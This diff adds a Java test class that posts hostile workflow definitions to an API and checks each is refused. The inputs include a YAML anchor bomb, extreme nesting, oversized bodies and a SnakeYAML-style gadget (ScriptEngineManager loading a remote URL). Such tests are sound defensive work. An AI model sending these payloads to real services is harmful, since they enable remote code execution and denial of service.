@@ -1,0 +1,129 @@
+package dev.tributary.webapp.workflow;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.tributary.webapp.security.SignedIn;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.RestAssured;
+import io.restassured.config.EncoderConfig;
+import io.restassured.config.RestAssuredConfig;
+import io.restassured.http.ContentType;
+import io.restassured.response.Response;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import org.junit.jupiter.api.DisplayNameGeneration;
+import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Bodies that are meant to hurt, or are no definitions at all. */
+@QuarkusTest
+@DisplayNameGeneration(ReplaceUnderscores.class)
+class HostileDefinitionsTest {
+  private static final String API = "/api/v1/workflows";
+  private static final String JSON = "application/json";
+  private static final String YAML = "application/yaml";
+
+  @Test
+  void a_bomb_of_anchors_is_refused_at_its_first_alias() {
+    assertProblem(
+        post(YAML, "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b]\n"),
+        "TRB-100012");
+  }
+
+  @ParameterizedTest
+  @ValueSource(ints = {41, 100_000})
+  void deep_nesting_is_refused_in_both_syntaxes(int depth) {
+    assertProblem(
+        post(JSON, "{\"a\":" + "[".repeat(depth) + "]".repeat(depth) + "}"), "TRB-100015");
+    assertProblem(post(YAML, "a: " + "[".repeat(depth) + "]".repeat(depth)), "TRB-100015");
+  }
+
+  @Test
+  void a_huge_scalar_is_refused_with_the_limit() {
+    String huge = "x".repeat((1 << 20) + 1);
+
+    assertThat(assertProblem(post(YAML, "name: " + huge), "TRB-100013").asString())
+        .contains("1048576");
+    assertThat(assertProblem(post(JSON, "{\"name\":\"" + huge + "\"}"), "TRB-100013").asString())
+        .contains("1048576");
+  }
+
+  @Test
+  void a_name_that_stands_twice_is_told_in_both_syntaxes() {
+    assertProblem(post(YAML, "name: one\nname: two\n"), "TRB-100011");
+    assertProblem(post(JSON, "{\"name\":\"one\",\"name\":\"two\"}"), "TRB-100011");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {JSON, YAML})
+  void bytes_that_are_no_utf_8_are_told(String type) {
+    byte[] latin = "{\"name\": \"caf\u00e9\"}".getBytes(StandardCharsets.ISO_8859_1);
+
+    assertProblem(
+        SignedIn.asAdministrator().config(asBytes()).contentType(type).body(latin).post(API),
+        "TRB-100017");
+  }
+
+  @Test
+  void a_tag_of_a_class_makes_no_object() {
+    Response answer =
+        post(YAML, "name: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://a/\"]]\n");
+
+    assertThat(answer.statusCode()).isBetween(400, 422);
+    assertThat(answer.<List<String>>path("problems.code")).isNotEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {JSON, YAML})
+  void nothing_at_all_is_told(String type) {
+    assertProblem(post(type, " "), "TRB-100014");
+  }
+
+  @Test
+  void a_body_over_the_limit_is_told_with_the_limit() {
+    Response answer = post(JSON, "\"" + "a".repeat(2_200_000) + "\"");
+
+    assertThat(answer.statusCode()).isEqualTo(413);
+    assertThat(answer.<String>path("code")).isEqualTo("TRB-190007");
+    assertThat(answer.asString()).contains("2097152");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"text/plain", "application/xml", "multipart/form-data; boundary=x"})
+  void another_content_type_is_told(String type) {
+    Response answer =
+        SignedIn.asAdministrator()
+            .config(asBytes())
+            .contentType(type)
+            .body("name: x".getBytes(StandardCharsets.UTF_8))
+            .post(API);
+
+    assertThat(answer.statusCode()).as(answer.asString()).isEqualTo(415);
+    assertThat(answer.<String>path("code")).isEqualTo("TRB-190019");
+  }
+
+  private static Response post(String type, String body) {
+    return SignedIn.asAdministrator()
+        .config(asBytes())
+        .contentType(type)
+        .body(body.getBytes(StandardCharsets.UTF_8))
+        .post(API);
+  }
+
+  private static RestAssuredConfig asBytes() {
+    return RestAssured.config()
+        .encoderConfig(
+            EncoderConfig.encoderConfig()
+                .encodeContentTypeAs(YAML, ContentType.BINARY)
+                .encodeContentTypeAs("application/xml", ContentType.BINARY)
+                .appendDefaultContentCharsetToContentTypeIfUndefined(false));
+  }
+
+  private static Response assertProblem(Response answer, String code) {
+    assertThat(answer.statusCode()).as(answer.asString()).isBetween(400, 422);
+    assertThat(answer.<List<String>>path("problems.code")).contains(code);
+    return answer;
+  }
+}
